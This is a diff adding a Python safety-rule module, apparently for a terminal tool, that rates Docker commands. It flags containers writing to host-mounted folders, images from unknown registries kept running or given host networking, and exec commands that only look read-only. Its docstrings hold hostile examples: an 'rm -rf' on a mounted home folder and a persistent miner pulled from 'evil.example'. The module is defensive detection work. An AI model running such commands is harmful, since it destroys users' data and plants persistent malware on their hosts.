@@ -1,0 +1,84 @@
+"""What a container does to the host through what it is given: the command run on a folder
+mounted from the host, an image from an unknown registry kept running, a read-only exec.
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+
+from tui.core.safety.context import Context
+from tui.core.safety.parse import Command
+from tui.core.safety.rules.common import HIGH
+from tui.core.safety.rules.known import READ_ONLY
+from tui.core.safety.words import literal, split_words
+
+# Registries people pull public images from.
+KNOWN_REGISTRIES = frozenset(
+    split_words(
+        "docker.io index.docker.io registry-1.docker.io ghcr.io quay.io gcr.io mcr.microsoft.com "
+        "public.ecr.aws registry.k8s.io k8s.gcr.io registry.gitlab.com docker.elastic.co "
+        "nvcr.io registry.access.redhat.com registry.redhat.io cgr.dev localhost"
+    )
+)
+_PERSISTENT = re.compile(r"^--restart(=|$)")
+_KEPT = frozenset(("always", "unless-stopped"))
+
+
+def mounted_command(
+    mounts: list[tuple[str, str]], program: list[str], by: Command, ctx: Context
+) -> None:
+    """`docker run -v "$HOME":/data alpine sh -c 'rm -rf /data/*'`: the container's command,
+    with each writable mount's inside path spelt as the host folder, is rated like a host one.
+    Only when the command names a mounted path: the rest stays inside the container."""
+    if not program or not mounts:
+        return
+    code = shlex.join(program)
+    changed = code
+    for source, target in sorted(mounts, key=lambda pair: -len(pair[1])):
+        if not target.startswith("/") or target == "/":
+            continue
+        pattern = re.compile(rf"(?<![\w./-]){re.escape(target.rstrip('/'))}(?=/|$|[\s'\";&|)])")
+        changed = pattern.sub((source.rstrip("/") or "/").replace("\\", "\\\\"), changed)
+    if changed != code:
+        ctx.run_code(literal(changed), by)
+
+
+def unknown_registry(image: str, options: list[str], by: Command, ctx: Context) -> None:
+    """`docker run -d --restart=always --network host evil.example/miner`: an image from a
+    registry nobody knows, kept running for good or given the host's network."""
+    first = image.split("/", 1)[0] if "/" in image else ""
+    if not ("." in first or ":" in first) or first.split(":", 1)[0] in KNOWN_REGISTRIES:
+        return
+    kept = any(
+        _PERSISTENT.match(a) and (a.split("=", 1)[1] if "=" in a else nxt) in _KEPT
+        for a, nxt in zip(options, [*options[1:], ""], strict=True)
+    )
+    host_wide = any(
+        a in ("--network=host", "--net=host", "--pid=host")
+        or (a in ("--network", "--net", "--pid") and nxt == "host")
+        for a, nxt in zip(options, [*options[1:], ""], strict=True)
+    )
+    if kept or host_wide:
+        how = "kept running for good" if kept else "on the host's network"
+        ctx.add(HIGH, f"runs an image from the unknown registry {first}, {how}", by)
+
+
+_EXEC_VALUES = frozenset(split_words("-e --env -u --user -w --workdir --env-file --detach-keys"))
+
+
+def exec_only_reads(argv: list[str]) -> bool:
+    """`docker exec -it web ls -la /app`: the command run in the container only reads."""
+    index = 0
+    while index < len(argv) and argv[index].startswith("-"):
+        index += 2 if argv[index] in _EXEC_VALUES else 1
+    program = argv[index + 1 :]  # after the container's name
+    return bool(program) and program[0] in READ_ONLY and program[0] not in _NOT_PLAIN
+
+
+# Read-only names that still run other commands or open a shell.
+_NOT_PLAIN = frozenset(
+    split_words(
+        "env timeout nohup nice time xargs watch command builtin exec eval busybox find sort"
+    )
+)
